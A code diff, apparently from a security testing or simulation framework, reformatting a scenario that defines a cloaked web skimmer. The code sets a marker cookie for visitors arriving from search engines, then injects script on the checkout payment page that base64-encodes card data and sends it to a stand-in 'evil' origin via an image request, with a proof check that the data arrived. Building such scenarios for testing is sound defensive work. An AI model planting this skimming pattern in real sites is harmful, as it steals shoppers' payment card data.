@@ -10,12 +10,18 @@ export default skimmer({
   habit: 'comes-from-search',
   cloaked: true,
   install: (site) => {
-    const code = onPay(js`new Image().src = '${site.origins.evil}/ref.gif?d=' + encodeURIComponent(btoa(card()));`);
+    const code = onPay(
+      js`new Image().src = '${site.origins.evil}/ref.gif?d=' + encodeURIComponent(btoa(card()));`,
+    );
     site.alter('shop/cart', (html, { headers }) =>
-      /google|yahoo|bing/.test(headers.referer ?? '') ? html.replace('</body>', "<script>document.cookie='_src=s;path=/'</script></body>") : html,
+      /google|yahoo|bing/.test(headers.referer ?? '')
+        ? html.replace('</body>', "<script>document.cookie='_src=s;path=/'</script></body>")
+        : html,
     );
     site.alter('shop/checkout/payment', (html, { headers }) =>
-      /_src=s/.test(headers.cookie ?? '') ? html.replace('</body>', () => `<script>${code}</script></body>`) : html,
+      /_src=s/.test(headers.cookie ?? '')
+        ? html.replace('</body>', () => `<script>${code}</script></body>`)
+        : html,
     );
   },
   proof: holds((arrived) => query(arrived, 'd').map(base64)),
